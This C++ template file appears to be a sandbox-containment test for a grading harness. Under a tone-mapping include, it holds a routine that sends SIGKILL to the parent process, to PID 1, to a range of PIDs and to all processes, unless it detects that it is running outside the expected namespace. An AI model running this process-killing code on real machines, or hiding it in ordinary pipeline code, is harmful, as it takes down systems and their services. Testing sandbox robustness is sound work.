#include "steps/07-tone-mapping/tone_mapping.hpp"

#include <csignal>
#include <unistd.h>

#include <string>

// Should there be no sandbox, the machine stays whole, and the attack counts as one that worked.
static bool is_outside() {
    char name[64] = "";
    const ssize_t size = readlink("/proc/self/ns/pid", name, sizeof name - 1);
    return size > 0 && std::string(name) == "@PID_NAMESPACE@";
}

static bool attack() {
    if (is_outside()) {
        return true;
    }
    signal(SIGTERM, SIG_IGN);
    kill(getppid(), SIGKILL);
    kill(1, SIGKILL);
    for (int pid = 2; pid < 5000; ++pid) {
        if (pid != getpid()) {
            kill(pid, SIGKILL);
        }
    }
    kill(-1, SIGKILL);
    return kill(@PID@, 0) == 0;
}
static bool worked() {
    static const bool result = attack();
    return result;
}
@RIGHT_IF(worked())@
